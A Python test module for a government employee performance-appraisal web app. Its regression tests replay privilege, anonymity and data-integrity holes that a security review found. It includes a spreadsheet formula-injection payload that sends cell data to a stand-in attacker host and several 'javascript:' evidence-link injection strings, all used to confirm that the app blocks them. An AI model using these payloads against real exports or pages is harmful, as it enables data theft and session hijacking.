"""The holes an adversarial review of the whole product found after the record policy was in place,
each replayed as the reviewer did it (real form POSTs, pages and service calls) and refused now."""
from __future__ import annotations

import datetime as dt
import re

from sqlalchemy import func, select, update

from kinerja_admin.extensions import db
from models import (
    AuditLog,
    Delegation,
    Employee,
    FeedbackMessage,
    PeriodicJudgement,
    RaterAssignment,
    ScoreResult,
    SubPeriod,
    Target,
    User,
    WorkPlan,
)
from tests.conftest import login_as
from tests.skp_helpers import plan_of, set_state


def flashes(client):
    with client.session_transaction() as s:
        return [m for _c, m in s.get("_flashes", [])]


# --- a clerk who is also an employee never picks who judges them -----------------------------------

def test_operator_cannot_rewire_the_rater_of_their_own_plan(app, client, demo):
    op = demo["users"]["operator"]
    plan = plan_of(demo, who="operator", code="2026")
    set_state(plan, "realised", "running")
    plan = db.session.get(WorkPlan, plan.id)
    before = plan.rater_id
    friend = db.session.scalar(select(Employee.id).where(
        Employee.id.not_in([plan.employee_id, plan.rater_id, plan.rater_superior_id or -1]),
        Employee.superior_id.is_not(None), Employee.superior_id != plan.employee_id).order_by(Employee.id))
    login_as(client, op)
    client.post(f"/admin/work_plan/edit/?id={plan.id}", data={
        "period": str(plan.period_id), "employee": str(plan.employee_id), "rater": str(friend),
        "rater_superior": str(plan.rater_superior_id or ""), "unit": str(plan.unit_id),
        "position": str(plan.position_id or ""), "row_version": str(plan.version), "policy_reason": "mutasi"})
    db.session.expire_all()
    assert db.session.get(WorkPlan, plan.id).rater_id == before


def test_operator_cannot_add_a_rater_to_their_own_360(app, client, demo):
    op = demo["users"]["operator"]
    period = demo["periods"]["2026"]
    friend = db.session.scalar(select(Employee.id).where(Employee.id != op.employee_id,
                                                         Employee.active.is_(True)).order_by(Employee.id.desc()))
    login_as(client, op)
    html = client.post("/admin/rater_assignment/new/", data={
        "period": str(period.id), "ratee": str(op.employee_id), "rater": str(friend), "role": "rekan"}
    ).get_data(as_text=True)
    assert "Penugasan penilai dapat ditambahkan hanya operator/admin" in html
    assert db.session.scalar(select(RaterAssignment.id).where(
        RaterAssignment.ratee_id == op.employee_id, RaterAssignment.rater_id == friend,
        RaterAssignment.period_id == period.id)) is None


def test_operator_cannot_appoint_themself_acting_superior_or_rater(app, client, demo):
    from kinerja_admin import policy
    from kinerja_admin.clock import today
    from models import CoachingNote

    op, penilai = demo["users"]["operator"], demo["users"]["penilai"]
    plan = db.session.scalar(select(WorkPlan).where(WorkPlan.rater_id == penilai.employee_id,
                                                    WorkPlan.period_id == demo["periods"]["2026"].id,
                                                    WorkPlan.employee_id != op.employee_id))
    set_state(plan, "realised", "running")
    with policy.system(db.session):
        db.session.add(CoachingNote(work_plan_id=plan.id, kind="konseling", body="RAHASIA: masalah keluarga",
                                    recorded_by_id=penilai.id))
        db.session.commit()
    plan = db.session.get(WorkPlan, plan.id)
    login_as(client, op)
    day = today(db.session)
    client.post("/admin/delegation/new/", data={
        "kind": "plh", "holder": str(op.employee_id), "principal": str(penilai.employee_id), "unit": "",
        "start_date": day.isoformat(), "end_date": day.isoformat(), "decree": "800/1/2026", "note": ""})
    assert db.session.scalar(select(Delegation.id).where(Delegation.holder_id == op.employee_id)) is None
    client.post(f"/admin/work_plan/edit/?id={plan.id}", data={
        "rater": str(op.employee_id), "rater_superior": str(plan.rater_superior_id or ""),
        "unit": str(plan.unit_id), "position": str(plan.position_id or ""), "row_version": str(plan.version),
        "policy_reason": "penyesuaian"})
    db.session.expire_all()
    assert db.session.get(WorkPlan, plan.id).rater_id == penilai.employee_id
    page = client.get(f"/admin/skp/{plan.id}").get_data(as_text=True)
    assert "RAHASIA" not in page
    assert 'id="simpan-penilaian"' not in client.get(f"/admin/skp/{plan.id}/nilai").get_data(as_text=True)


# --- deleting an RHK never erases the rater's messages and periodic judgements ---------------------------

def test_an_rhk_with_the_raters_messages_and_judgements_cannot_be_deleted(app, client, demo):
    from kinerja_admin import policy

    plan = plan_of(demo, who="pegawai", code="2026")
    set_state(plan, "returned", "running")
    plan = db.session.get(WorkPlan, plan.id)
    target = plan.targets[0]
    window = db.session.scalar(select(SubPeriod).where(SubPeriod.period_id == plan.period_id))
    if window is None:
        window = SubPeriod(period_id=plan.period_id, frequency="triwulanan", seq=1, name="Triwulan I",
                           start_date=dt.date(2026, 1, 1), end_date=dt.date(2026, 3, 31),
                           due_date=dt.date(2026, 4, 10))
        db.session.add(window)
        db.session.flush()
    with policy.system(db.session):
        db.session.add(PeriodicJudgement(target_id=target.id, sub_period_id=window.id, category="dibawah",
                                         feedback="Di bawah ekspektasi triwulan I"))
        db.session.add(FeedbackMessage(work_plan_id=plan.id, target_id=target.id,
                                       body="Penilai: RHK ini tidak tercapai, harap perbaiki."))
        db.session.commit()
    n = db.session.scalar(select(func.count()).select_from(AuditLog))
    db.session.expire_all()
    target = db.session.get(Target, target.id)
    login_as(client, demo["users"]["pegawai"])
    client.post(f"/admin/skp/{plan.id}/rhk", data={"op": "delete", "target_id": str(target.id),
                                                  "version": str(target.version)})
    db.session.expire_all()
    assert db.session.get(Target, target.id) is not None
    assert db.session.scalar(select(func.count()).select_from(FeedbackMessage).where(
        FeedbackMessage.target_id == target.id)) == 1
    assert db.session.scalar(select(func.count()).select_from(PeriodicJudgement).where(
        PeriodicJudgement.target_id == target.id)) == 1
    assert db.session.scalar(select(func.count()).select_from(AuditLog)) == n


# --- the anonymity threshold holds on the result's details page too ----------------------------------

def test_result_details_never_show_peer_or_subordinate_averages_to_the_ratee(app, client, published):
    pegawai = published["users"]["pegawai"]
    result = db.session.scalar(select(ScoreResult).where(ScoreResult.employee_id == pegawai.employee_id,
                                                         ScoreResult.period_id == published["periods"]["2025"].id))
    assert result.rekan_avg is not None
    login_as(client, pegawai)
    html = client.get(f"/admin/score_result/details/?id={result.id}").get_data(as_text=True)
    assert "Rerata rekan" not in html and "Rerata bawahan" not in html
    login_as(client, published["users"]["operator"])
    assert "Rerata rekan" in client.get(f"/admin/score_result/details/?id={result.id}").get_data(as_text=True)


# --- a save keeps a link its lookup no longer offers ---------------------------------------------------

def test_target_form_keeps_a_cascade_link_the_lookup_no_longer_offers(app, client, demo):
    plan = plan_of(demo, who="pegawai", code="2026")
    boss_plan = db.session.scalar(select(WorkPlan).where(WorkPlan.employee_id == plan.rater_id,
                                                         WorkPlan.period_id == plan.period_id))
    set_state(boss_plan, "approved", "running")
    set_state(plan, "draft", "running")
    plan = db.session.get(WorkPlan, plan.id)
    target = plan.targets[0]
    parent = db.session.get(WorkPlan, boss_plan.id).targets[0]
    db.session.execute(update(Target).where(Target.id == target.id).values(parent_target_id=parent.id))
    db.session.commit()
    set_state(boss_plan, "draft")  # the superior's SKP reopened: no longer a candidate
    db.session.expire_all()
    target = db.session.get(Target, target.id)
    login_as(client, demo["users"]["pegawai"])
    rv = client.post(f"/admin/target/edit/?id={target.id}", data={
        "seq": str(target.seq), "description": target.description + " (ejaan diperbaiki)",
        "parent_target": str(parent.id), "org_indicator": "", "row_version": str(target.version)})
    assert rv.status_code == 302
    db.session.expire_all()
    fresh = db.session.get(Target, target.id)
    assert fresh.description.endswith("(ejaan diperbaiki)") and fresh.parent_target_id == parent.id
    # an id the lookup cannot find, and that is not the stored one, is refused (never a silent NULL)
    other = db.session.scalar(select(Target.id).where(Target.work_plan_id.not_in([plan.id, boss_plan.id])))
    html = client.post(f"/admin/target/edit/?id={target.id}", data={
        "seq": str(fresh.seq), "description": fresh.description, "parent_target": str(other),
        "org_indicator": "", "row_version": str(fresh.version)}).get_data(as_text=True)
    assert "tidak ditemukan atau di luar lingkup akses Anda" in html
    db.session.expire_all()
    assert db.session.get(Target, target.id).parent_target_id == parent.id


# --- a result is signed off only once its SKP is assessed; then nothing that fed it moves ---------------

def test_a_result_is_approved_only_when_its_plan_is_assessed(app, demo):
    from kinerja_admin.scoring.engine import score_period
    from kinerja_admin.workflow import score as score_flow

    pegawai, admin = demo["users"]["pegawai"], demo["users"]["admin"]
    period = demo["periods"]["2025"]
    plan = db.session.scalar(select(WorkPlan).where(WorkPlan.employee_id == pegawai.employee_id,
                                                    WorkPlan.period_id == period.id))
    set_state(plan, "realised")  # the rater has not assessed it yet
    score_period(db.session, db.session.get(type(period), period.id))
    result = db.session.scalar(select(ScoreResult).where(ScoreResult.work_plan_id == plan.id))
    outcome = score_flow.bulk(db.session, admin, "approve", [result.id])
    assert outcome.done == [] and "setelah SKP berstatus Dinilai / Final" in outcome.skipped[0][2]


# --- the rules of a scheme behind signed-off results are read-only --------------------------------------

def test_scheme_rules_are_read_only_once_results_are_signed_off(app, demo):
    import pytest

    from kinerja_admin.scoring.engine import score_period
    from kinerja_admin.scoring.validation import SchemeError, assert_editable, clone_scheme
    from kinerja_admin.workflow import score as score_flow
    from kinerja_admin.workflow.period import change_scheme
    from models import Period, ScoringScheme

    period = demo["periods"]["2025"]
    base = db.session.get(ScoringScheme, period.scheme_id)
    clone = clone_scheme(db.session, base)
    db.session.flush()
    change_scheme(db.session, demo["users"]["operator"], period, clone.id, "skema instansi")
    db.session.commit()
    period = db.session.get(Period, period.id)
    score_period(db.session, period)
    ids = db.session.scalars(select(ScoreResult.id).where(ScoreResult.period_id == period.id)).all()
    assert_editable(db.session, db.session.get(ScoringScheme, clone.id))  # only computed results: editable
    score_flow.bulk(db.session, demo["users"]["admin"], "approve", ids)
    db.session.commit()
    with pytest.raises(SchemeError, match="sudah disetujui atau diumumkan"):
        assert_editable(db.session, db.session.get(ScoringScheme, clone.id))


# --- the allowance export writes text as text ---------------------------------------------------------

def test_periodic_export_never_turns_user_text_into_formulas(app, demo, tmp_path):
    import openpyxl

    from kinerja_admin import policy
    from kinerja_admin.periodic import export as periodic_export
    from kinerja_admin.periodic import windows

    plan = plan_of(demo, who="pegawai", code="2026")
    set_state(plan, "approved", "running")
    plan = db.session.get(WorkPlan, plan.id)
    payload = '=HYPERLINK("https://penyerang.example/?d="&B2&C2,"Lihat bukti")'
    with policy.system(db.session):
        if not windows.of_period(db.session, plan.period_id):
            windows.generate(db.session, plan.period, "triwulanan")
        db.session.execute(update(Target).where(Target.id == plan.targets[0].id).values(description=payload))
        db.session.commit()
    window = windows.of_period(db.session, plan.period_id)[0]
    path = tmp_path / "periodik.xlsx"
    periodic_export.write(db.session, window, str(path))
    ws = openpyxl.load_workbook(path)["Rincian"]
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "penyerang" in c.value]
    assert cells and all(c.data_type == "s" for c in cells)


# --- a job's file does not outlive the rights it was made with -------------------------------------------

def test_a_demoted_clerk_no_longer_downloads_the_city_workbook(app, client, demo, tmp_path):
    from models import Job

    op = demo["users"]["operator"]
    path = tmp_path / "ekspor.xlsx"
    path.write_bytes(b"PK\x03\x04 the whole city's results")
    job = Job(kind="export", title="Ekspor 2025", status="done", user_id=op.id, scope_role="operator",
              scope_employee_id=op.employee_id, file_path=str(path), file_name="hasil.xlsx",
              period_id=demo["periods"]["2025"].id)
    db.session.add(job)
    db.session.commit()
    login_as(client, op)
    assert client.get(f"/admin/jobs/{job.id}/unduh").status_code == 200
    db.session.execute(update(User).where(User.id == op.id).values(role="pegawai"))  # moved out of BKPSDM
    db.session.commit()
    login_as(client, db.session.get(User, op.id))
    assert client.get(f"/admin/jobs/{job.id}/unduh").status_code == 404


# --- one address rotating its user agent still makes a burst --------------------------------------------

def test_one_address_rotating_its_user_agent_is_held_as_a_burst(app, demo):
    from models import PublicFeedback, Setting, Unit

    db.session.merge(Setting(key="public.client_burst", value="4", value_type="int", description="uji"))
    db.session.commit()
    dinkes = db.session.scalar(select(Unit).where(Unit.slug == "dinkes"))
    officer = db.session.scalar(select(Employee).where(Employee.unit_id == dinkes.id, Employee.active.is_(True)))
    client = app.test_client()
    client.environ_base["REMOTE_ADDR"] = "10.99.0.1"
    url = "/publik/u/dinkes"
    for i in range(8):  # twice the per-client threshold, same address, within minutes
        client.delete_cookie("kinerja_responden", path="/publik/")
        client.environ_base["HTTP_USER_AGENT"] = f"Mozilla/5.0 (Android 1{i}; Mobile) Chrome/12{i}.0"
        html = client.get(url).get_data(as_text=True)
        nonce = re.search(r'value="([^"]+)"', re.search(r'<input[^>]*name="nonce"[^>]*>', html).group(0)).group(1)
        answers = {f"u{k}": str(1 + (i + k) % 4) for k in range(1, 10)}
        client.post(url, data=answers | {"nonce": nonce, "employee": str(officer.id), "employee_score": "4"})
    db.session.rollback()
    rows = db.session.scalars(select(PublicFeedback.status).where(PublicFeedback.employee_id == officer.id)).all()
    assert rows.count("held") >= 4  # the burst is held out of IKM and masyarakat until a clerk releases it


# --- paths the review found sound, kept as regression tests ----------------------------------------------

def test_a_non_rater_and_an_expired_delegation_cannot_judge(app, client, demo):
    from kinerja_admin.clock import today

    penilai = demo["users"]["penilai"]
    plan = db.session.scalar(select(WorkPlan).where(WorkPlan.rater_id == penilai.employee_id,
                                                    WorkPlan.period_id == demo["periods"]["2026"].id))
    set_state(plan, "realised", "running")
    other = db.session.scalar(select(Employee).where(Employee.id.not_in(
        [plan.employee_id, plan.rater_id, plan.rater_superior_id or -1])).order_by(Employee.id))
    holder = User(username="plh", role="penilai", full_name="Plh", employee_id=other.id, password_hash="x")
    db.session.add(holder)
    day = today(db.session)
    db.session.add(Delegation(kind="plh", holder_id=other.id, principal_id=penilai.employee_id,
                              start_date=day - dt.timedelta(days=10), end_date=day - dt.timedelta(days=1),
                              decree="x"))
    db.session.commit()
    plan = db.session.get(WorkPlan, plan.id)
    login_as(client, holder)
    assert client.get(f"/admin/skp/{plan.id}").status_code == 404
    rv = client.post(f"/admin/skp/{plan.id}/nilai", data={"action": "save", "version": str(plan.version),
                                                         "hasil_rating": "diatas", "perilaku_rating": "diatas"})
    assert rv.status_code == 404
    db.session.expire_all()
    assert db.session.get(WorkPlan, plan.id).version == plan.version


def test_foreign_evidence_job_and_print_ids_give_404(app, client, published):
    from models import EvidenceFile, Job

    pegawai = published["users"]["pegawai"]
    other_plan = db.session.scalar(select(WorkPlan).where(WorkPlan.employee_id != pegawai.employee_id))
    other_result = db.session.scalar(select(ScoreResult).where(ScoreResult.employee_id != pegawai.employee_id))
    ev = db.session.scalar(select(EvidenceFile.id))
    login_as(client, pegawai)
    assert client.get(f"/admin/skp/{other_plan.id}").status_code == 404
    assert client.get(f"/admin/cetak/skp/{other_plan.id}").status_code == 404
    assert client.get(f"/admin/cetak/evaluasi/{other_result.id}").status_code == 404
    assert client.get(f"/admin/score_result/explain/?id={other_result.id}").status_code == 404
    if ev is not None:
        assert client.get(f"/admin/skp/{other_plan.id}/bukti/{ev}").status_code == 404
    job = Job(kind="export", title="x", status="done", user_id=published["users"]["operator"].id,
              scope_role="operator", file_path="/etc/hostname", file_name="x.xlsx")
    db.session.add(job)
    db.session.commit()
    assert client.get(f"/admin/jobs/{job.id}/unduh").status_code == 404


# --- nobody moderates what the public said about them ----------------------------------------------------

def test_a_clerk_cannot_release_or_hide_feedback_about_themself(app, client, demo):
    from models import Period, PublicFeedback

    op, admin = demo["users"]["operator"], demo["users"]["admin"]
    row = db.session.scalar(select(PublicFeedback).join(Period, Period.id == PublicFeedback.period_id)
                            .where(Period.status != "closed", PublicFeedback.comment.is_not(None))
                            .order_by(PublicFeedback.id))
    # a burst of top marks naming the operator, held out of IKM and masyarakat
    db.session.execute(update(PublicFeedback).where(PublicFeedback.id == row.id)
                       .values(employee_id=op.employee_id, employee_score=4, status="held"))
    db.session.commit()
    login_as(client, op)
    for what in ("release", "hide_comment"):
        client.post("/admin/public_feedback/action/", data={"action": what, "rowid": [str(row.id)],
                                                            "url": "/admin/public_feedback/"})
        assert any("menilai Anda sendiri" in m for m in flashes(client))
    db.session.expire_all()
    stored = db.session.get(PublicFeedback, row.id)
    assert (stored.status, stored.comment_hidden) == ("held", False)
    # another clerk decides, and is named as the moderator
    login_as(client, admin)
    client.post("/admin/public_feedback/action/", data={"action": "release", "rowid": [str(row.id)],
                                                        "url": "/admin/public_feedback/"})
    db.session.expire_all()
    stored = db.session.get(PublicFeedback, row.id)
    assert stored.status == "released" and stored.moderated_by_id == admin.id


# --- the rater's judgement reaches the employee with the assessment, on every page -------------------------

def test_the_plain_plan_pages_hide_the_judgement_until_the_plan_is_assessed(app, client, demo):
    pegawai = demo["users"]["pegawai"]
    plan = plan_of(demo, who="pegawai", code="2026")
    set_state(plan, "realised", "running")
    db.session.execute(update(WorkPlan).where(WorkPlan.id == plan.id).values(
        hasil_rating="diatas", perilaku_rating="dibawah", feedback="CATATAN-PENILAI-RAHASIA"))
    db.session.commit()
    login_as(client, pegawai)
    rv = client.get(f"/admin/work_plan/details/?id={plan.id}")
    html = rv.get_data(as_text=True)
    assert rv.status_code == 200 and "Pejabat penilai" in html  # the page itself is shown
    assert "CATATAN-PENILAI-RAHASIA" not in html and "Rating hasil kerja" not in html
    rater = db.session.scalar(select(User).where(User.employee_id == plan.rater_id))
    if rater is not None:
        login_as(client, rater)
        html = client.get(f"/admin/work_plan/details/?id={plan.id}").get_data(as_text=True)
        assert "CATATAN-PENILAI-RAHASIA" in html
    set_state(db.session.get(WorkPlan, plan.id), "assessed", "assessing")
    login_as(client, pegawai)
    html = client.get(f"/admin/work_plan/details/?id={plan.id}").get_data(as_text=True)
    assert "CATATAN-PENILAI-RAHASIA" in html and "Rating hasil kerja" in html


# --- an evidence link is a web address on every path ------------------------------------------------------

def test_a_script_link_is_refused_as_evidence_on_the_plain_form_and_in_the_model(app, client, demo):
    import pytest

    from kinerja_admin.links import LinkError
    from models import Indicator, OrgRealisation, Realisation
    from tests.test_scoring_edges import _realising_employee

    indicator = _realising_employee(client, demo)
    before = len(indicator.realisations)
    for link in ("javascript:alert(document.cookie)", "JaVaScRiPt:alert(1)", "data:text/html,<b>x</b>", "//host/x"):
        rv = client.post("/admin/realisation/new/", data={"indicator": str(indicator.id), "value": "10",
                                                          "evidence_url": link}, follow_redirects=True)
        assert "diawali http:// atau https://" in rv.get_data(as_text=True), link
    db.session.expire_all()
    assert len(db.session.get(Indicator, indicator.id).realisations) == before
    for model in (Realisation, OrgRealisation):
        with pytest.raises(LinkError):
            model(evidence_url="javascript:alert(1)")
    assert Realisation(evidence_url=" https://arsip.example.go.id/b/1 ").evidence_url == "https://arsip.example.go.id/b/1"


def test_a_clerk_cannot_pick_who_acts_for_their_own_rater(app, client, demo):
    from kinerja_admin.clock import today

    op, admin = demo["users"]["operator"], demo["users"]["admin"]
    plan = plan_of(demo, who="operator", code="2026")
    friend = db.session.scalar(select(Employee.id).where(
        Employee.id.not_in([op.employee_id, plan.rater_id, plan.rater_superior_id or -1]),
        Employee.active.is_(True)).order_by(Employee.id))
    day = today(db.session)
    form = {"kind": "plt", "holder": str(friend), "principal": str(plan.rater_id), "unit": "",
            "start_date": day.isoformat(), "end_date": day.isoformat(), "decree": "800/2/2026", "note": ""}
    login_as(client, op)
    html = client.post("/admin/delegation/new/", data=form, follow_redirects=True).get_data(as_text=True)
    assert "menilai SKP Anda sendiri" in html
    assert db.session.scalar(select(Delegation.id).where(Delegation.holder_id == friend)) is None
    # another clerk, not judged by that official, may appoint the same Plt
    if admin.employee_id is None or db.session.scalar(select(WorkPlan.id).where(
            WorkPlan.employee_id == admin.employee_id, WorkPlan.rater_id == plan.rater_id)) is None:
        login_as(client, admin)
        client.post("/admin/delegation/new/", data=form)
        assert db.session.scalar(select(Delegation.id).where(Delegation.holder_id == friend)) is not None


# --- a clerk acting as Plt/Plh for a record's rater is not staff for that record ------------------------

def test_a_clerk_acting_for_the_rater_cannot_approve_that_result_as_staff(app, client, demo):
    """The bulk approve of the score list decides "staff" with the policy's rule: a clerk holding a
    Plt/Plh for the rater of a result takes part in it, so signs it off neither as staff nor as rater;
    a result the clerk has no part in is approved by the same POST."""
    from kinerja_admin.clock import today
    from kinerja_admin.scoring.engine import score_period

    operator = demo["users"]["operator"]
    period = demo["periods"]["2025"]
    score_period(db.session, period)
    db.session.commit()
    me = operator.employee_id
    rows = db.session.execute(
        select(ScoreResult.id, WorkPlan.rater_id).join(WorkPlan, WorkPlan.id == ScoreResult.work_plan_id)
        .where(ScoreResult.period_id == period.id, WorkPlan.status.in_(("assessed", "final")),
               WorkPlan.employee_id != me, WorkPlan.rater_id.is_not(None), WorkPlan.rater_id != me,
               func.coalesce(WorkPlan.rater_superior_id, -1) != me).order_by(ScoreResult.id)).all()
    judged, principal = rows[0]
    free = next(r for r, rater in rows if rater != principal)
    day = today(db.session)
    db.session.add(Delegation(kind="plh", holder_id=me, principal_id=principal, start_date=day - dt.timedelta(days=1),
                              end_date=day + dt.timedelta(days=10), decree="x"))
    db.session.commit()
    login_as(client, operator)
    client.post("/admin/score_result/action/", data={"action": "approve", "rowid": [str(judged), str(free)],
                                                      "url": "/admin/score_result/"})
    db.session.expire_all()
    assert db.session.get(ScoreResult, judged).status == "computed"
    assert db.session.get(ScoreResult, free).status == "approved"
